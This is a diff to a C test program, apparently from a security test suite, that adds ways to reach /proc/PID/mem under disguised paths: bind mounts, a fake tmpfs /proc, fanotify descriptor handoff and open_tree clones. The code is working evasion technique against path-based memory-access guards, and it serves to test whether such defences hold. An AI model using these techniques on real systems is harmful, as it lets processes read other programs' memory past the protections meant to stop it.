@@ -7,13 +7,21 @@ variants:
   - { args: [root], tries: "/proc/PID/mem with /proc as the root directory" }
   - { args: [no-proc], tries: "/proc/PID/mem by a folder, with no /proc in the root directory" }
   - { args: [mount], tries: "/proc/PID/mem with proc mounted elsewhere" }
+  - { args: [bind-file], tries: "/proc/PID/mem bound to a name of its own" }
+  - { args: [bind-folder], tries: "/proc/PID/mem by /proc/PID bound to another folder" }
+  - { args: [bind-user], tries: "/proc/PID/mem bound to a name, without root, in a user namespace" }
+  - { args: [fake], tries: "/proc/PID/mem, with a folder of one's own at /proc that names it otherwise" }
+  - { args: [fanotify], tries: "/proc/PID/mem by the events of fanotify, which come with descriptors" }
+  - { args: [detached-part], tries: "/proc/PID/mem with /proc/PID mounted nowhere" }
   - { args: [detached], tries: "/proc/PID/mem with proc mounted nowhere" }
   - { args: [passed], tries: "/proc/PID/mem opened by a child and sent" }
 */
 /* /proc/PID/mem under names that do not look like it. How: argument `descriptor` (O_PATH, then /proc/self/fd), `root` (a root
    directory inside /proc), `no-proc` (a root directory without /proc, the folder held open), `mount` (proc mounted elsewhere),
-   `detached` (proc mounted nowhere), `passed` (opened by a child, sent through a socket). */
+   `bind-file`, `bind-folder`, `bind-user` (a part of proc mounted where the name tells nothing), `fake` (what stands at /proc is no procfs), `fanotify` (who listens is handed what another
+   was refused), `detached-part`, `detached` (proc mounted nowhere), `passed` (opened by a child, sent through a socket). */
 #include "attack.h"
+#include <sys/fanotify.h>
 #include <sys/mount.h>
 #include <sys/socket.h>
 #ifndef FSCONFIG_CMD_CREATE
@@ -29,6 +37,40 @@ static int by_name(const char *folder, pid_t pid, const struct target *t) {
     int got = steals(open(path, O_RDONLY), t);
     snprintf(path, sizeof path, "%s/%d/task/%d/mem", folder, pid, pid);
     return got | steals(open(path, O_RDONLY), t);
+}
+static const char *bound(const char *how) {
+    int user = strcmp(how, "bind-user") == 0;
+    if (unshare(CLONE_NEWNS | (user ? CLONE_NEWUSER : 0)) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) not_here(user ? "no user namespaces here" : "mounting needs root");
+    int by_folder = strcmp(how, "bind-folder") == 0;
+    if (by_folder) mkdir("bound", 0700);
+    else close(open("bound", O_CREAT | O_WRONLY, 0600));
+    if (mount(by_folder ? "/proc/self" : "/proc/self/mem", "bound", NULL, MS_BIND, NULL)) printf("not bound: %s\n", strerror(errno));
+    return by_folder ? "bound/mem" : "bound";
+}
+/* A folder at /proc in which every descriptor has a harmless name; procfs itself is held open. */
+static int dressed_up(void) {
+    int real = open("/proc", O_PATH | O_DIRECTORY);
+    if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) not_here("mounting needs root");
+    mount("tmpfs", "/proc", "tmpfs", 0, NULL);
+    char path[128];
+    const char *const folders[] = {"/proc/thread-self", "/proc/thread-self/fd", "/proc/self"};
+    for (unsigned i = 0; i < 3; i++) mkdir(folders[i], 0755);
+    for (int fd = 0; fd < 64; fd++) {
+        snprintf(path, sizeof path, "/proc/thread-self/fd/%d", fd);
+        if (symlink("/etc/passwd", path)) continue;
+    }
+    return openat(real, "self", O_PATH | O_DIRECTORY);
+}
+static int hears(const struct target *t) {
+    int heard = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY), got = 0;
+    if (heard < 0 && errno != EPERM) not_here("no fanotify here");
+    if (fanotify_mark(heard, FAN_MARK_ADD | FAN_MARK_MOUNT, FAN_OPEN, AT_FDCWD, "/proc")) return 0;
+    close(open("/proc/self/mem", O_RDONLY));
+    struct fanotify_event_metadata events[64];
+    ssize_t bytes = read(heard, events, sizeof events);
+    for (struct fanotify_event_metadata *one = events; FAN_EVENT_OK(one, bytes); one = FAN_EVENT_NEXT(one, bytes)) got |= steals(one->fd, t);
+    close(heard);
+    return got;
 }
 static int receives(int from) {
     char byte, room[CMSG_SPACE(sizeof(int))];
@@ -80,6 +122,21 @@ int main(int argc, char **argv) {
             mkdir("empty", 0755);
             if (i == 0 && chroot("empty")) not_here("chroot needs root");
             escaped |= steals(openat(folder, "mem", O_RDONLY), &t[i]);
+        } else if (strcmp(how, "fake") == 0) {
+            static int self = -1;
+            if (i == 0) self = dressed_up();
+            escaped |= steals(openat(self, "mem", O_RDONLY), &t[i]);
+        } else if (strcmp(how, "fanotify") == 0) {
+            escaped |= hears(&t[i]);
+        } else if (strcmp(how, "detached-part") == 0) {
+            static int part = -1;
+            if (i == 0) part = (int)syscall(428 /* open_tree */, AT_FDCWD, "/proc/self", 1 /* OPEN_TREE_CLONE */);
+            if (part < 0) not_here("open_tree needs root");
+            escaped |= steals(openat(part, "mem", O_RDONLY), &t[i]);
+        } else if (strncmp(how, "bind-", 5) == 0) {
+            static const char *name;
+            if (!name) name = bound(how);
+            escaped |= steals(open(name, O_RDONLY), &t[i]);
         } else if (strcmp(how, "mount") == 0) {
             if (i == 0) {
                 if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) || mkdir("9", 0755) || mkdir("9/7", 0755) || mount("proc", "9/7", "proc", 0, NULL))
